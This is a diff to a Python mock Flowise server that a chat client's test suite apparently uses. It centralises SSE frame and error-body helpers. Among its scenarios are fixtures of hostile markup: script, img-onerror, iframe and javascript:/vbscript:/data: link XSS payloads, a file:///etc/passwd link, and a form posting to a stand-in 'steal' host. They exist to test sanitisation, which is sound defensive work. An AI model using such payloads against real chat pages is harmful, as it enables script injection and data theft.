@@ -27,6 +27,8 @@ from pathlib import Path
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
 
+from flowise_wire import JSON_MEDIA_TYPE, SSE_HEADERS, end_frame, error_body, frame, json_body, thinking_frame
+
 FIXTURES = Path(__file__).parent / "fixtures" / "flowise-3.1.4"
 API_KEY = "sk-test-7f3a9c1e5b"
 # A valid key without Flowise's chatflows:view permission: it may run flows but not read them.
@@ -37,14 +39,9 @@ def fixture_bytes(name: str) -> bytes:
     return (FIXTURES / name).read_bytes()
 
 
-def frame(event: str, data: Any) -> bytes:
-    """One event exactly as Flowise's SSEStreamer writes it."""
-    return b"message:\ndata:" + json.dumps({"event": event, "data": data}, ensure_ascii=False).encode() + b"\n\n"
-
-
 # What the chaos flow's `error` faults send, as Flowise wraps a provider's failure.
 CHAOS_ERROR = "503 The model is overloaded. Please try again later."
-_CHAOS_WORDS = (
+_CHAOS_WORDS = (  # noqa: SIM905
     "the flow reads each token as it arrives and keeps what came before a fault so that nothing "
     "already shown is lost while the page waits for the model to finish its answer"
 ).split()
@@ -92,7 +89,7 @@ class Chaos:
             words = [rng.choice(_CHAOS_WORDS) for _ in range(rng.randint(30, 60))]
             paragraph = [" " + w for w in words]
             paragraph[0] = ("\n\n" if tokens else "") + words[0].capitalize()
-            tokens += paragraph[:-1] + [paragraph[-1] + "."]
+            tokens += [*paragraph[:-1], paragraph[-1] + "."]
         return tokens[: self.tokens]
 
 
@@ -168,7 +165,7 @@ class _Handler(BaseHTTPRequestHandler):
         return body
 
     def _flowise_error(self, status: int, message: str) -> None:
-        self._json(status, {"statusCode": status, "success": False, "message": message, "stack": {}})
+        self._json(status, error_body(status, message))
 
     def _send(self, status: int, body: bytes, content_type: str) -> None:
         self.send_response(status)
@@ -178,13 +175,12 @@ class _Handler(BaseHTTPRequestHandler):
         self.wfile.write(body)
 
     def _json(self, status: int, obj: Any) -> None:
-        self._send(status, json.dumps(obj, ensure_ascii=False).encode(), "application/json; charset=utf-8")
+        self._send(status, json_body(obj), JSON_MEDIA_TYPE)
 
     def _start_stream(self, content_type: str = "text/event-stream") -> None:
         self.send_response(200)
-        self.send_header("Content-Type", content_type)
-        self.send_header("Cache-Control", "no-cache")
-        self.send_header("X-Accel-Buffering", "no")
+        for name, value in {**SSE_HEADERS, "Content-Type": content_type}.items():
+            self.send_header(name, value)
         self.send_header("Transfer-Encoding", "chunked")
         self.end_headers()
 
@@ -265,7 +261,7 @@ class _Handler(BaseHTTPRequestHandler):
         elif self.path.startswith("/api/v1/public-chatbotConfig/"):
             self._chatbot_config(self.path.rsplit("/", 1)[1])
         else:
-            self._json(404, {"statusCode": 404, "success": False, "message": "Not found", "stack": {}})
+            self._flowise_error(404, "Not found")
 
     def _chatbot_config(self, flow_id: str) -> None:
         """As Flowise 3.x (``getSinglePublicChatbotConfig``): the chat settings with the flow's uploads
@@ -300,7 +296,7 @@ class _Handler(BaseHTTPRequestHandler):
             self._json(401, {"error": "Unauthorized Access"})
         elif flow_id not in _SCENARIOS:
             message = f"Chatflow {flow_id} not found in the database!"
-            self._json(404, {"statusCode": 404, "success": False, "message": message, "stack": {}})
+            self._flowise_error(404, message)
         else:
             self._json(200, chatflow(flow_id))
 
@@ -311,7 +307,7 @@ class _Handler(BaseHTTPRequestHandler):
         elif self.path.startswith("/api/v1/feedback/"):
             self._json(200, {**(body if isinstance(body, dict) else {}), "id": self.path.rsplit("/", 1)[1]})
         else:
-            self._json(404, {"statusCode": 404, "success": False, "message": "Not found", "stack": {}})
+            self._flowise_error(404, "Not found")
 
     def _stored_file(self, flow_id: str, chat_id: str, name: str) -> None:
         stored = self.wire.stored.get((flow_id, chat_id, name))
@@ -381,7 +377,7 @@ def _replay(stream_file: str, json_file: str) -> Callable[[_Handler, dict, bool]
         if streaming:
             h._stream(fixture_bytes(stream_file))
         else:
-            h._send(200, fixture_bytes(json_file), "application/json; charset=utf-8")
+            h._send(200, fixture_bytes(json_file), JSON_MEDIA_TYPE)
 
     return run
 
@@ -396,18 +392,14 @@ def _protected(h: _Handler, body: dict, streaming: bool) -> None:
 
 
 def _server_error(h: _Handler, body: dict, streaming: bool) -> None:
-    h._send(500, fixture_bytes("build-error.500.json"), "application/json; charset=utf-8")
+    h._send(500, fixture_bytes("build-error.500.json"), JSON_MEDIA_TYPE)
 
 
 def _quotes_key(h: _Handler, body: dict, streaming: bool) -> None:
     # A flow whose failing node quotes the credential it was called with, in Flowise's error JSON.
     key = h.headers.get("Authorization", "").removeprefix("Bearer ")
     message = f"Error: predictionsServices.buildChatflow - Error: Invalid key {key} for this tool"
-    h._send(
-        500,
-        json.dumps({"statusCode": 500, "success": False, "message": message, "stack": {}}).encode(),
-        "application/json; charset=utf-8",
-    )
+    h._flowise_error(500, message)
 
 
 def _error_midstream(h: _Handler, body: dict, streaming: bool) -> None:
@@ -416,7 +408,7 @@ def _error_midstream(h: _Handler, body: dict, streaming: bool) -> None:
         + frame("token", "Начинаю ответ 🙂 ")
         + frame("token", "and then")
         + frame("error", "Error: predictionsServices.buildChatflow - Error: Model quota exceeded")
-        + frame("end", "[DONE]")
+        + end_frame()
     )
 
 
@@ -452,7 +444,7 @@ def _slow(h: _Handler, body: dict, streaming: bool) -> None:
         for i in range(400):
             h._chunk(frame("token", f"{i} "))
             time.sleep(0.05)
-        h._chunk(frame("end", "[DONE]"))
+        h._chunk(end_frame())
         h._end_stream()
     except OSError:
         h.wire.client_left.set()
@@ -464,9 +456,7 @@ def _reset_twice(h: _Handler, body: dict, streaming: bool) -> None:
     if len(attempts) <= 2:
         h._reset()
     else:
-        h._stream(
-            frame("start", "") + frame("token", f"Answered on attempt {len(attempts)} 🙂") + frame("end", "[DONE]")
-        )
+        h._stream(frame("start", "") + frame("token", f"Answered on attempt {len(attempts)} 🙂") + end_frame())
 
 
 def _reset_midstream(h: _Handler, body: dict, streaming: bool) -> None:
@@ -478,7 +468,7 @@ def _reset_midstream(h: _Handler, body: dict, streaming: bool) -> None:
 def _truncated_chunk(h: _Handler, body: dict, streaming: bool) -> None:
     h._start_stream()
     h._chunk(frame("start", "") + frame("token", "Кусок ответа "))
-    rest = frame("token", "that is cut") + frame("end", "[DONE]")
+    rest = frame("token", "that is cut") + end_frame()
     # The chunk announces its full length, then the connection closes halfway through it.
     h.wfile.write(b"%x\r\n%s" % (len(rest), rest[: len(rest) // 2]))
     h.wfile.flush()
@@ -491,7 +481,7 @@ def _bad_json_line(h: _Handler, body: dict, streaming: bool) -> None:
         + frame("token", "Before ")
         + b'message:\ndata:{"event":"token","data":"never closed\n\n'
         + frame("token", "after.")
-        + frame("end", "[DONE]")
+        + end_frame()
     )
 
 
@@ -533,7 +523,7 @@ def _echo(h: _Handler, body: dict, streaming: bool) -> None:
     text = f"You asked: {body.get('question', '')}"
     meta = {"chatId": chat_id, "chatMessageId": f"msg-{len(h.wire.received)}", "sessionId": chat_id}
     if streaming:
-        h._stream(frame("start", "") + frame("token", text) + frame("metadata", meta) + frame("end", "[DONE]"))
+        h._stream(frame("start", "") + frame("token", text) + frame("metadata", meta) + end_frame())
     else:
         h._json(200, {"text": text, **meta})
 
@@ -564,14 +554,14 @@ def _human_input(h: _Handler, body: dict, streaming: bool) -> None:
         # The message and its wrapping as in human-input.not-stopped.stream.sse.
         message = f"Error: predictionsServices.buildChatflow - No previous execution found for session {chat_id}"
         if streaming:
-            h._stream(frame("error", message) + frame("end", "[DONE]"))
+            h._stream(frame("error", message) + end_frame())
         else:
-            h._json(500, {"statusCode": 500, "success": False, "message": message, "stack": {}})
+            h._flowise_error(500, message)
         return
     if streaming:
         h._stream_frames(fixture_bytes(f"{name}.stream.sse"))
     else:
-        h._send(200, fixture_bytes(f"{name}.json"), "application/json; charset=utf-8")
+        h._send(200, fixture_bytes(f"{name}.json"), JSON_MEDIA_TYPE)
 
 
 SECOND_HUMAN_INPUT_NODE = "humanInputAgentflow_1"
@@ -643,7 +633,7 @@ def _agentflow_error(h: _Handler, body: dict, streaming: bool) -> None:
         + frame("agentFlowExecutedData", [start, failed])
         + frame("agentFlowEvent", "ERROR")
         + frame("error", f"Error: predictionsServices.buildChatflow - {TOOL_FAILURE}")
-        + frame("end", "[DONE]")
+        + end_frame()
     )
 
 
@@ -709,7 +699,7 @@ def _agents(h: _Handler, body: dict, streaming: bool) -> None:
         + frame("usedTools", AGENT_REASONING[1]["usedTools"])
         + frame("sourceDocuments", AGENT_REASONING[1]["sourceDocuments"])
         + frame("metadata", meta)
-        + frame("end", "[DONE]")
+        + end_frame()
     )
 
 
@@ -755,10 +745,7 @@ def _follow_ups(h: _Handler, body: dict, streaming: bool) -> None:
         "followUpPrompts": json.dumps(FOLLOW_UPS),
     }
     h._stream(
-        frame("start", "")
-        + frame("token", f"About {body.get('question', '')}")
-        + frame("metadata", meta)
-        + frame("end", "[DONE]")
+        frame("start", "") + frame("token", f"About {body.get('question', '')}") + frame("metadata", meta) + end_frame()
     )
 
 
@@ -771,11 +758,7 @@ def _fails_once(h: _Handler, body: dict, streaming: bool) -> None:
     if len(asked) == 1:
         _error_midstream(h, body, streaming)
     else:
-        h._stream(
-            frame("start", "")
-            + frame("token", f"Second try worked: {body.get('question', '')}")
-            + frame("end", "[DONE]")
-        )
+        h._stream(frame("start", "") + frame("token", f"Second try worked: {body.get('question', '')}") + end_frame())
 
 
 # Markup and link targets a flow could send to run script in, or lead away from, the chat page;
@@ -785,7 +768,8 @@ HOSTILE_ANSWER = [
     "<script>window.__pwned = 'script'; alert('script')</script>\n\n",
     "<img src=x onerror=\"window.__pwned='img'; alert('img')\"> and ",
     "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>\n\n",
-    "[Click me](javascript:window.__pwned='link';alert('link')) · [Data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) · ",
+    "[Click me](javascript:window.__pwned='link';alert('link')) · "
+    "[Data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) · ",
     "[File](file:///etc/passwd) · [VB](vbscript:msgbox(1)) · [Hidden](jav&#x61;script&#58;alert('entity')) · ",
     "<javascript:alert('autolink')> · [ref link][r] · $\\href{javascript:alert('katex')}{tex}$\n\n",
     "Reversed: \u202eexe.txt\u202c and a bell\u0007.\n\n",
@@ -830,7 +814,7 @@ def _hostile(h: _Handler, body: dict, streaming: bool) -> None:
         + frame("sourceDocuments", HOSTILE_SOURCES)
         + frame("usedTools", HOSTILE_TOOLS)
         + frame("error", HOSTILE_ERROR)
-        + frame("end", "[DONE]")
+        + end_frame()
     )
 
 
@@ -844,7 +828,7 @@ def _huge(h: _Handler, body: dict, streaming: bool) -> None:
         + frame("token", "Short answer.")
         + frame("sourceDocuments", [{"pageContent": HUGE_TEXT, "metadata": {"source": "big.txt"}}])
         + frame("usedTools", [{"tool": "dump", "toolInput": {"n": 1}, "toolOutput": HUGE_TEXT}])
-        + frame("end", "[DONE]")
+        + end_frame()
     )
 
 
@@ -879,7 +863,7 @@ def _chaos(h: _Handler, body: dict, streaming: bool) -> None:
                     "memoryType": "Buffer Memory",
                 }
                 h._chunk(frame("metadata", meta))
-            h._chunk(frame("end", "[DONE]"))
+            h._chunk(end_frame())
             h._end_stream()
     except OSError:
         if not reached_fault:
@@ -1022,19 +1006,13 @@ def _answer(
         return
     events = frame("start", "") + b"".join(frame("token", word) for word in re.findall(r"\S+\s*", text))
     events += b"".join(frame(name, value) for name, value in extra.items())
-    h._stream(events + frame("metadata", meta) + frame("end", "[DONE]"), chunk_size)
+    h._stream(events + frame("metadata", meta) + end_frame(), chunk_size)
 
 
 # A reasoning model behind an agentflow's LLM node: its thoughts stream first, as `thinking` events.
 THOUGHTS = ["The user asks about **France**. ", "Its capital is Paris; ", "answer briefly."]
 THINKING_SECONDS = 3
 REASONED_ANSWER = "The capital of France is Paris."
-
-
-def _thinking_frame(text: str, duration: int | None = None) -> bytes:
-    # SSEStreamer.streamThinkingEvent: `duration` sits beside `data`, left out (undefined) until thinking ends.
-    event = {"event": "thinking", "data": text, **({"duration": duration} if duration is not None else {})}
-    return b"message:\ndata:" + json.dumps(event, ensure_ascii=False).encode() + b"\n\n"
 
 
 def _reasoning(h: _Handler, body: dict, streaming: bool) -> None:
@@ -1051,11 +1029,11 @@ def _reasoning(h: _Handler, body: dict, streaming: bool) -> None:
         return
     h._stream_frames(
         frame("start", "")
-        + b"".join(_thinking_frame(part) for part in THOUGHTS)
-        + _thinking_frame("", THINKING_SECONDS)
+        + b"".join(thinking_frame(part) for part in THOUGHTS)
+        + thinking_frame("", THINKING_SECONDS)
         + b"".join(frame("token", word) for word in re.findall(r"\S+\s*", REASONED_ANSWER))
         + frame("metadata", meta)
-        + frame("end", "[DONE]")
+        + end_frame()
     )
 
 
@@ -1121,7 +1099,7 @@ HOSTILE_HTML = (
     "<form action='https://example.invalid/steal'><input name=q><button>Send</button></form>"
 )
 ARTIFACT_MARKDOWN = "### Summary\n\n**Revenue** grew. [Safe](https://example.org) [Bad](javascript:alert('md'))"
-REPORT_CSV = "quarter,revenue\nQ1,10\nQ2,12\n".encode()
+REPORT_CSV = b"quarter,revenue\nQ1,10\nQ2,12\n"
 
 
 def _artifacts(h: _Handler, body: dict, streaming: bool) -> None:
@@ -1284,7 +1262,7 @@ def _endless_frames(h: _Handler, opening: bytes, event: Callable[[int], bytes]) 
 
 
 def _endless_thinking(h: _Handler, body: dict, streaming: bool) -> None:
-    _endless_frames(h, frame("start", ""), lambda n: _thinking_frame(f"Thought {n}. "))
+    _endless_frames(h, frame("start", ""), lambda n: thinking_frame(f"Thought {n}. "))
 
 
 def _endless_artifacts(h: _Handler, body: dict, streaming: bool) -> None:
